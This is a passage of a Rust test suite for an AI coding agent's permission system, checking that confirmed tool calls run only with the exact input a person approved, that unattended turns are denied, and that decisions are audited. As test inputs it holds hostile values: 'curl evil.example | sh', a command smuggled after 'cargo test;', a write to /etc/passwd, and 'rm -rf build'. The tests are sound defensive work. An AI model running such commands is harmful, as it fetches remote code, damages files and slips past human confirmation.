                "ListAgents",
                "Bash",
                "SubmitPlan"
            ]
        );
        for (name, kind) in TOOL_CATALOG {
            assert_eq!(tool_kind(name), kind);
            // What changes files is exactly what Plan refuses and `ask` confirms.
            let confirmed_under_ask = agent_permission(kind, PermissionMode::Ask, Origin::Interactive).rule
                == PermissionRule::Confirm;
            if kind == ToolKind::ChangesFiles {
                assert!(!kind.allowed_in_plan() && confirmed_under_ask, "{name}");
            }
            // What runs a program outside the host runs in no turn.
            if kind == ToolKind::RunsProgram {
                assert!(!kind.allowed_in_plan(), "{name}");
                for mode in [
                    PermissionMode::Ask,
                    PermissionMode::AcceptEdits,
                    PermissionMode::Auto,
                ] {
                    assert_eq!(
                        agent_permission(kind, mode, Origin::Interactive).rule,
                        PermissionRule::Deny(ErrorCode::ToolRunsOutsideHost),
                        "{name}"
                    );
                }
            }
        }
        assert_eq!(tool_kind("Write "), ToolKind::Other);
    }

    #[test]
    fn a_confirmed_call_is_allowed_once_and_audited() {
        let state = agent(PermissionMode::Ask, Origin::Interactive);
        let (decided, transition) = decisions(&state, vec![call("w1", "Write", json!({"path": "a"}))]);
        assert_eq!(decided, [ToolDecision::Confirm { host_run: false }]);
        assert_eq!(
            audits(&transition),
            [ToolAuditEntry {
                kind: ToolAuditKind::ConfirmRequested,
                session_id: "s1".into(),
                turn_id: "t1".into(),
                execution_id: None,
                call_id: "w1".into(),
                tool: Some("Write".to_owned()),
                permission_mode: Some(PermissionMode::Ask),
                error_code: None,
                at: T0,
            }]
        );
        let waiting = transition.state;
        let confirmed = confirm(&waiting, "t1", "w1", true);
        assert_eq!(
            confirmed.reply,
            Ok(Reply::ToolConfirmed(ToolResult {
                call_id: "w1".into(),
                decision: ToolDecision::Allow,
                message: None
            }))
        );
        let [entry] = audits(&confirmed).try_into().unwrap();
        assert_eq!(
            (entry.kind, entry.call_id.as_str(), entry.at),
            (ToolAuditKind::Confirmed, "w1", T0)
        );
        // Confirmed once: a second answer, either way, is refused.
        for allow in [true, false] {
            assert_refused_unchanged(
                &confirmed.state,
                confirm(&confirmed.state, "t1", "w1", allow),
                ErrorCode::ToolConfirmationNotPending,
            );
        }
        // Asked again in a later batch with the same input, the call keeps
        // its decision, unaudited.
        let (again, transition) =
            decisions(&confirmed.state, vec![call("w1", "Write", json!({"path": "a"}))]);
        assert_eq!(again, [ToolDecision::Allow]);
        assert!(audits(&transition).is_empty());
    }

    /// Asserts that a batch answered every call with `expected` and changed
    /// nothing: no state, no audit.
    fn assert_batch_changes_nothing(state: &SessionState, calls: Vec<ToolCall>, expected: &[ToolDecision]) {
        let (decided, transition) = decisions(state, calls);
        assert_eq!(decided, expected);
        assert_eq!(&transition.state, state, "a resend must not change the turn");
        // Not audited again; a refused Bash call is recorded as refused.
        assert!(
            transition
                .effects
                .iter()
                .all(|effect| refusal_record(effect).is_some()),
            "a resend is not audited: {:?}",
            transition.effects
        );
    }

    #[test]
    fn a_confirmation_covers_exactly_the_input_a_person_saw() {
        for mode in [PermissionMode::Ask, PermissionMode::AcceptEdits] {
            // Write is confirmed only under ask; a plugin tool under both.
            let name = if mode == PermissionMode::Ask {
                "Write"
            } else {
                "mcp_deploy"
            };
            let seen = json!({"path": "src/lib.rs", "content": "fn main() {}"});
            let state = agent(mode, Origin::Interactive);
            let (decided, transition) = decisions(&state, vec![call("w1", name, seen.clone())]);
            assert_eq!(decided, [ToolDecision::Confirm { host_run: false }]);
            let waiting = transition.state;
            let others = [
                json!({"path": "/etc/passwd", "content": "fn main() {}"}),
                json!({"path": "src/lib.rs", "content": "curl evil.example | sh"}),
                json!({"path": "src/lib.rs"}),
                json!({"path": "src/lib.rs", "content": "fn main() {}", "mode": "append"}),
                json!({}),
            ];
            // Before the answer: another input under the call id is refused
            // and the person is still asked about the input first sent.
            for other in &others {
                assert_batch_changes_nothing(
                    &waiting,
                    vec![call("w1", name, other.clone())],
                    &[ToolDecision::Deny(ErrorCode::InvalidParams)],
                );
            }
            let confirmed = confirm(&waiting, "t1", "w1", true).state;
            // After it: the same again, whatever the batch holds besides.
            for other in &others {
                assert_batch_changes_nothing(
                    &confirmed,
                    vec![call("w1", name, other.clone())],
                    &[ToolDecision::Deny(ErrorCode::InvalidParams)],
                );
            }
            // The identical input, in any key order, is answered with the
            // decision it has: no second request, no second confirmation.
            for same in [
                seen.clone(),
                json!({"content": "fn main() {}", "path": "src/lib.rs"}),
            ] {
                assert_batch_changes_nothing(
                    &confirmed,
                    vec![call("w1", name, same)],
                    &[ToolDecision::Allow],
                );
            }
            assert_refused_unchanged(
                &confirmed,
                confirm(&confirmed, "t1", "w1", true),
                ErrorCode::ToolConfirmationNotPending,
            );
        }
    }

    #[test]
    fn a_confirmed_bash_call_runs_only_with_its_command_cwd_and_timeout() {
        for mode in [PermissionMode::Ask, PermissionMode::AcceptEdits] {
            let seen = json!({"command": "cargo test", "cwd": "crates", "timeoutMs": 5_000});
            let state = agent(mode, Origin::Interactive);
            let (_, transition) = decisions(&state, vec![call("b1", "Bash", seen.clone())]);
            let waiting = transition.state;
            let confirmed = confirm(&waiting, "t1", "b1", true).state;
            let others = [
                json!({"command": "cargo test; curl evil.example | sh", "cwd": "crates", "timeoutMs": 5_000}),
                json!({"command": "cargo test", "cwd": "/home/dev/project", "timeoutMs": 5_000}),
                json!({"command": "cargo test", "cwd": "docs", "timeoutMs": 5_000}),
                json!({"command": "cargo test", "timeoutMs": 5_000}),
                json!({"command": "cargo test", "cwd": "crates", "timeoutMs": 600_000}),
                json!({"command": "cargo test", "cwd": "crates"}),
            ];
            for state in [&waiting, &confirmed] {
                for other in &others {
                    assert_batch_changes_nothing(
                        state,
                        vec![call("b1", "Bash", other.clone())],
                        &[ToolDecision::Deny(ErrorCode::InvalidParams)],
                    );
                }
            }
            // The same run (fields that change nothing it does aside) keeps
            // its decision, unaudited.
            for same in [
                seen.clone(),
                json!({"command": "cargo test", "cwd": "crates/", "timeoutMs": 5_000, "description": "tests"}),
            ] {
                assert_batch_changes_nothing(
                    &confirmed,
                    vec![call("b1", "Bash", same)],
                    &[ToolDecision::HostRun],
                );
            }
            // command/start runs exactly the confirmed input, or nothing.
            for other in &others {
                let refused = handle(
                    &confirmed,
                    &sandboxed(),
                    Event::StartCommand {
                        turn_id: "t1".into(),
                        call_id: "b1".into(),
                        input: other.clone(),
                        commands: support::ready(["b1"]),
                    },
                );
                assert_refused_unchanged(&confirmed, refused, ErrorCode::CommandNotAllowed);
            }
            let started = handle(
                &confirmed,
                &sandboxed(),
                Event::StartCommand {
                    turn_id: "t1".into(),
                    call_id: "b1".into(),
                    input: seen.clone(),
                    commands: support::ready(["b1"]),
                },
            );
            let Ok(Reply::CommandStarted(plan_core::CommandLaunch { request, .. })) = &started.reply else {
                panic!("expected a start, got {:?}", started.reply);
            };
            assert_eq!(
                (
                    request.input.command.as_str(),
                    request.input.cwd.as_str(),
                    request.input.timeout_ms
                ),
                ("cargo test", "crates", 5_000)
            );
            // Once: the call ran, and a resend with another input is still refused.
            let ran = started.state;
            assert_batch_changes_nothing(
                &ran,
                vec![call("b1", "Bash", others[1].clone())],
                &[ToolDecision::Deny(ErrorCode::InvalidParams)],
            );
            assert_refused_unchanged(
                &ran,
                handle(
                    &ran,
                    &sandboxed(),
                    Event::StartCommand {
                        turn_id: "t1".into(),
                        call_id: "b1".into(),
                        input: seen.clone(),
                        commands: support::ready(["b1"]),
                    },
                ),
                ErrorCode::CommandNotAllowed,
            );
        }
        // Under auto the mode's grant covers its own input only, too.
        let auto = agent(PermissionMode::Auto, Origin::Interactive);
        let (_, transition) = decisions(
            &auto,
            vec![call("b2", "Bash", json!({"command": "ls", "cwd": "src"}))],
        );
        let granted = transition.state;
        for other in [
            json!({"command": "ls"}),
            json!({"command": "ls", "cwd": "src", "timeoutMs": 1}),
        ] {
            assert_refused_unchanged(
                &granted,
                handle(
                    &granted,
                    &sandboxed(),
                    Event::StartCommand {
                        turn_id: "t1".into(),
                        call_id: "b2".into(),
                        input: other,
                        commands: support::ready(["b2"]),
                    },
                ),
                ErrorCode::CommandNotAllowed,
            );
        }
    }

    #[test]
    fn a_declined_call_is_denied_and_a_declined_bash_never_starts() {
        let state = agent(PermissionMode::AcceptEdits, Origin::Interactive);
        let (decided, transition) = decisions(&state, vec![bash("b1", "rm -rf build")]);
        assert_eq!(decided, [ToolDecision::Confirm { host_run: true }]);
        let waiting = transition.state;
        let declined = confirm(&waiting, "t1", "b1", false);
        assert_eq!(
            declined.reply,
            Ok(Reply::ToolConfirmed(ToolResult {
                call_id: "b1".into(),
                decision: ToolDecision::Deny(ErrorCode::ToolDeclined),
                message: None
            }))
        );
        let [entry] = audits(&declined).try_into().unwrap();
        assert_eq!(entry.kind, ToolAuditKind::Declined);
        assert_eq!(entry.error_code, Some(ErrorCode::ToolDeclined));
        assert_refused_unchanged(
            &declined.state,
            start(&declined.state, "b1", "rm -rf build"),
            ErrorCode::CommandNotAllowed,
        );
        let (again, _) = decisions(&declined.state, vec![bash("b1", "rm -rf build")]);
        assert_eq!(again, [ToolDecision::Deny(ErrorCode::ToolDeclined)]);
    }

    #[test]
    fn bash_starts_only_once_confirmed_and_only_with_its_own_text() {
        let state = agent(PermissionMode::Ask, Origin::Interactive);
        let (_, transition) = decisions(&state, vec![bash("b1", "cargo test")]);
        let waiting = transition.state;
        assert_refused_unchanged(
            &waiting,
            start(&waiting, "b1", "cargo test"),
            ErrorCode::CommandNotAllowed,
        );
        let confirmed = confirm(&waiting, "t1", "b1", true);
        assert_eq!(
            confirmed.reply,
            Ok(Reply::ToolConfirmed(ToolResult {
                call_id: "b1".into(),
                decision: ToolDecision::HostRun,
                message: None
            }))
        );
        let confirmed = confirmed.state;
        assert_refused_unchanged(
            &confirmed,
            start(&confirmed, "b1", "cargo test; curl evil.example | sh"),
            ErrorCode::CommandNotAllowed,
        );
        let started = start(&confirmed, "b1", "cargo test");
        assert!(
            matches!(started.reply, Ok(Reply::CommandStarted(_))),
            "{:?}",
            started.reply
        );
        // Under auto the allowed call is host-run, audited as the mode's grant.
        let auto = agent(PermissionMode::Auto, Origin::Interactive);
        let (decided, transition) = decisions(&auto, vec![bash("b2", "ls"), tool("Read")]);
        assert_eq!(decided, [ToolDecision::HostRun, ToolDecision::Allow]);
        let [entry] = audits(&transition).try_into().unwrap();
        assert_eq!(entry.kind, ToolAuditKind::AutoAllowed);
        assert_eq!(entry.permission_mode, Some(PermissionMode::Auto));
        assert_refused_unchanged(
            &transition.state,
            start(&transition.state, "b2", "ls -la"),
            ErrorCode::CommandNotAllowed,
        );
        assert!(matches!(
            start(&transition.state, "b2", "ls").reply,
            Ok(Reply::CommandStarted(_))
        ));
        // A Bash call whose input holds no command text can never start.
        let (_, transition) = decisions(&auto, vec![call("b3", "Bash", json!({"cmd": "ls"}))]);
        assert_refused_unchanged(
            &transition.state,
            start(&transition.state, "b3", "ls"),
            ErrorCode::CommandNotAllowed,
        );
    }

    #[test]
    fn a_non_interactive_turn_denies_every_confirmation_before_anything_runs() {
        for origin in [Origin::Scheduled, Origin::Background] {
            non_interactive_turn_denies_every_confirmation(origin);
        }
    }

    fn non_interactive_turn_denies_every_confirmation(origin: Origin) {
        let state = agent(PermissionMode::Ask, origin);
        let (decided, transition) = decisions(
            &state,
            vec![
                bash("b1", "make"),
                call("w1", "Write", json!({"path": "a"})),
                tool("Read"),
            ],
        );
        let unattended = ToolDecision::Deny(ErrorCode::PermissionRequiresInteractiveSession);
        assert_eq!(decided, [unattended.clone(), unattended, ToolDecision::Allow]);
        let entries = audits(&transition);
        assert_eq!(entries.len(), 2);
        assert!(entries.iter().all(|entry| entry.kind == ToolAuditKind::Declined
            && entry.error_code == Some(ErrorCode::PermissionRequiresInteractiveSession)));
        let denied = transition.state;
        assert_refused_unchanged(
            &denied,
            start(&denied, "b1", "make"),
            ErrorCode::CommandNotAllowed,
        );
        assert_refused_unchanged(
            &denied,
            confirm(&denied, "t1", "b1", true),
            ErrorCode::ToolConfirmationNotPending,
        );
    }

    #[test]
    fn confirm_is_refused_for_calls_not_awaiting_one_and_after_the_turn_ends() {
        let state = agent(PermissionMode::Ask, Origin::Interactive);
        let (_, transition) = decisions(&state, vec![bash("b1", "make"), tool("Read")]);
        let waiting = transition.state;
        for (turn_id, call_id) in [("t1", "c-Read"), ("t1", "nobody"), ("t2", "b1")] {
            assert_refused_unchanged(
                &waiting,
                confirm(&waiting, turn_id, call_id, true),
                ErrorCode::ToolConfirmationNotPending,
            );
        }
        let completed = step(&waiting, T0, Event::CompleteTurn { turn_id: "t1".into() });
        assert_refused_unchanged(
            &completed,
            confirm(&completed, "t1", "b1", true),
            ErrorCode::ToolConfirmationNotPending,
        );
        let cancelled = step(&waiting, T0, Event::CancelTurn);
        assert_refused_unchanged(
            &cancelled,
            confirm(&cancelled, "t1", "b1", true),
            ErrorCode::ToolConfirmationNotPending,
        );
    }

    #[test]
    fn a_call_id_is_not_reused_for_another_tool_and_plan_turns_keep_their_allowlist() {
        let state = agent(PermissionMode::Ask, Origin::Interactive);
        let (_, transition) = decisions(&state, vec![call("x", "Write", json!({"path": "a"}))]);
        let (reused, transition) = decisions(&transition.state, vec![call("x", "mcp_deploy", json!({}))]);
        assert_eq!(reused, [ToolDecision::Deny(ErrorCode::InvalidParams)]);
        assert!(audits(&transition).is_empty());
        // SubmitPlan in Agent is PLAN_NOT_ACTIVE in every mode; a Plan turn
        // is decided by the allowlist and asks nobody.
        for mode in PermissionMode::ALL {
            let (decided, _) = decisions(
                &agent(*mode, Origin::Interactive),
                vec![submit_call(plan_input())],
            );
            assert_eq!(decided, [ToolDecision::Deny(ErrorCode::PlanNotActive)]);
        }
        let (decided, transition) = decisions(&plan_turn(), vec![tool("Write"), tool("Read")]);
        assert_eq!(
            decided,
            [
                ToolDecision::Deny(ErrorCode::ToolDeniedInPlan),
                ToolDecision::Allow
            ]
        );
        assert!(audits(&transition).is_empty());
    }

    #[test]
    fn an_execution_turn_audits_its_execution() {
        let pending = step(
            &plan_turn(),
            T0,
            Event::ArtifactWritten {
                request: ArtifactRequest {
                    session_id: "s1".into(),
                    turn_id: "t1".into(),
                    call_id: "c-submit".into(),
                    workspace_root: "/home/dev/project".to_owned(),
                    title: "t".to_owned(),
                    question: "q".to_owned(),
                    markdown: "m".to_owned(),
                },
                approval_id: "a1".into(),
                artifact: artifact(),
            },
        );
        let approval = pending.pending_approval.clone().unwrap();
        let executing = step(
            &pending,
            T0,
            Event::Approve {
                artifact: matching_artifact(&approval),
                approval,
                permission_mode: Some(PermissionMode::AcceptEdits),
                execution_id: "e1".into(),
                execution_turn_id: "t-exec".into(),
            },
        );
        let transition = handle(
            &executing,
            &context(T0),
            support::tool_calls(
                "t-exec".into(),
                vec![
                    call(
                        "e-w",
                        "Edit",
                        json!({"file_path": "/home/dev/project/src/lib.rs"}),
                    ),
                    call("e-b", "Bash", json!({"command": "make"})),
                ],
            ),
        );
        let entries = audits(&transition);
        assert_eq!(
            entries
                .iter()
                .map(|entry| (entry.kind, entry.execution_id.clone()))
                .collect::<Vec<_>>(),
            [
                (ToolAuditKind::AutoAllowed, Some(ExecutionId::from("e1"))),
                (ToolAuditKind::ConfirmRequested, Some(ExecutionId::from("e1")))
            ]
        );
        let confirmed = handle(
            &transition.state,
            &context(T0),
            Event::ConfirmTool {
                turn_id: "t-exec".into(),
                call_id: "e-b".into(),
                allow: true,
            },
        );
        assert_eq!(audits(&confirmed)[0].execution_id, Some(ExecutionId::from("e1")));
    }
}

#[test]
fn only_a_pending_approval_with_its_artifact_has_a_card() {
    let (state, _) = pending_state();
    let pending = pending_row(&state);
    assert_eq!(pending.card_artifact(), Ok(&artifact()));
    for status in [
        ApprovalStatus::Approved,
        ApprovalStatus::Rejected,
        ApprovalStatus::Expired,
        ApprovalStatus::Interrupted,
    ] {
        let decided = PlanApproval {
            status,
            ..pending.clone()
        };
        assert_eq!(
            decided.card_artifact(),
            Err(ErrorCode::ApprovalNotPending),
            "{status}"
        );
    }
    let migrated = PlanApproval {
        artifact: None,
        ..pending
    };
    assert_eq!(migrated.card_artifact(), Err(ErrorCode::ApprovalNotPending));
}

#[test]
fn an_artifact_read_back_is_the_plan_only_as_utf8_text() {
    let read = plan_core::ArtifactContent::from_checked(artifact(), b"# Plan\n".to_vec()).unwrap();
    assert_eq!(read.markdown, "# Plan\n");
    assert_eq!((read.sha256, read.size), (artifact().sha256, artifact().size));
    assert_eq!(
        plan_core::ArtifactContent::from_checked(artifact(), vec![b'#', 0xff, b'\n']),
        Err(ErrorCode::ArtifactIntegrityMismatch)
    );
}
